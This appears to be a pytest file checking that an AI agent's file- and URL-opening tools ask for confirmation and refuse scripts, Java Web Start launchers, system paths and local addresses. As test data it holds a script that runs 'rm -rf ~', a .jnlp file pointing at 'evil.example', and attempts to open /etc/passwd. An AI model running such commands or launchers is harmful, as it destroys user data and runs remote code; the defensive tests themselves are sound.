"""open_item and show_folder through the agent and the gate, with a scripted model, real
files and a stub ``xdg-open`` on PATH (the one fake: the desktop's process boundary)."""

from __future__ import annotations

import stat
import sys
from pathlib import Path

import pytest

from app.agent.gate.policy import ContextState, offer_standing
from app.agent.tools.declarations import BUILTIN_TOOLS
from app.agent.tools.toolbox import build_registry
from app.agent.turn.chat import Conversation
from app.agent.turn.confirm import ConfirmationAnswer, ConfirmationRequest, deny_everything
from app.agent.turn.loop import Agent
from tests.scripting import call, script

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="xdg-open")


@pytest.fixture
def opened(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The file the stub opener adds its argument to. It is renamed into place whole after each
    call, so a test that waits for it to exist never reads it half written."""
    bin_dir, log = tmp_path / "bin", tmp_path / "opened.log"
    bin_dir.mkdir()
    opener = bin_dir / "xdg-open"
    opener.write_text(
        "#!/bin/sh\n"
        f'printf "%s\\n" "$@" >> "{log}.part"\n'
        f'cp "{log}.part" "{log}.new" && mv "{log}.new" "{log}"\n'
    )
    opener.chmod(opener.stat().st_mode | stat.S_IXUSR)
    monkeypatch.setenv("PATH", f"{bin_dir}:/usr/bin:/bin")
    return log


@pytest.fixture
def home(tmp_path: Path) -> Path:
    folder = tmp_path / "Documents"
    folder.mkdir()
    (folder / "menu.pdf").write_bytes(b"%PDF-1.4\n%%EOF\n")
    (folder / "tidy.txt").write_bytes(b"#!/bin/sh\nrm -rf ~\n")
    return folder


def _run(home: Path, turns: list[str], confirmer=deny_everything, text: str = "Open it"):
    context = ContextState(allowed_folders=[str(home)])
    agent = Agent(script(*turns), build_registry(folders=[home]), context, confirmer)
    return agent.run_turn(Conversation(), text)


def _log(path: Path) -> list[str]:
    return path.read_text().splitlines() if path.exists() else []


def test_opening_a_file_asks_even_in_a_clean_conversation(opened: Path, home: Path) -> None:
    report = _run(home, [call("open_item", path="menu.pdf"), "Not opened."], text="Open menu.pdf")
    [record] = report.calls
    assert (record.decision, record.answer, record.status) == ("confirm", "denied", "refused")
    assert any("another program" in reason for reason in record.reasons)
    assert _log(opened) == []


def test_an_approved_open_runs_exactly_what_was_shown(
    opened: Path, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # example.org resolves to a public address (no DNS in the test sandbox).
    monkeypatch.setattr("connectors.web.fetch.system_resolver", lambda host: ["93.184.215.14"])
    shown: list[ConfirmationRequest] = []

    def approve(request: ConfirmationRequest) -> ConfirmationAnswer:
        shown.append(request)
        return ConfirmationAnswer.approve()

    turns = [
        call("open_item", path="menu.pdf"),
        call("open_item", url="https://example.org/menu"),
        call("show_folder", path="menu.pdf"),
        "Opened.",
    ]
    report = _run(home, turns, approve, "Open menu.pdf, the menu page, and show me the folder")
    assert [(c.decision, c.status) for c in report.calls] == [("confirm", "ok")] * 3
    assert "menu.pdf" in shown[0].preview and "https://example.org/menu" in shown[1].preview
    real = str(home.resolve())
    assert _log(opened) == [f"{real}/menu.pdf", "https://example.org/menu", real]


def test_a_script_is_refused_after_approval_and_nothing_runs(opened: Path, home: Path) -> None:
    report = _run(
        home,
        [call("open_item", path="tidy.txt"), "I could not."],
        lambda request: ConfirmationAnswer.approve(),
        "Open tidy.txt",
    )
    [record] = report.calls
    assert record.status == "error" and "starts with #!" in str(record.result)
    assert _log(opened) == []


def test_a_launcher_of_a_kind_no_list_names_is_refused_without_asking(
    opened: Path, home: Path
) -> None:
    """Issue #37, class 8: a .jnlp (Java Web Start: downloads and runs code) was handed to
    the desktop after approval. Only documents, images, sound, video and text open, and
    nobody is asked about a file that could never open."""
    (home / "invoice.jnlp").write_text(
        '<?xml version="1.0"?><jnlp codebase="https://evil.example/"><application-desc/></jnlp>'
    )
    asked: list[ConfirmationRequest] = []

    def approve(request: ConfirmationRequest) -> ConfirmationAnswer:
        asked.append(request)
        return ConfirmationAnswer.approve()

    report = _run(home, [call("open_item", path="invoice.jnlp"), "I could not."], approve)
    [record] = report.calls
    assert record.status == "error" and "only documents, images" in str(record.result)
    assert asked == []  # refused before anyone is asked about it
    assert _log(opened) == []


def test_outside_paths_and_local_addresses_are_refused_without_asking(
    opened: Path, home: Path
) -> None:
    turns = [
        call("open_item", path="/etc/passwd"),
        call("open_item", url="http://127.0.0.1:8080/admin"),
        call("show_folder", path="/etc"),
        "Refused.",
    ]
    report = _run(home, turns, lambda request: ConfirmationAnswer.approve())
    assert [c.decision for c in report.calls] == ["deny", "deny", "deny"]
    assert _log(opened) == []


def test_no_always_allow_is_ever_offered_for_opening() -> None:
    from app.agent.gate.policy import decide

    for tool, arguments in [
        ("open_item", {"url": "https://example.org/"}),
        ("show_folder", {"path": "."}),
    ]:
        verdict = decide(tool, arguments, ContextState(), rules=BUILTIN_TOOLS)
        assert offer_standing(tool, arguments, verdict, ContextState(), rules=BUILTIN_TOOLS) is None
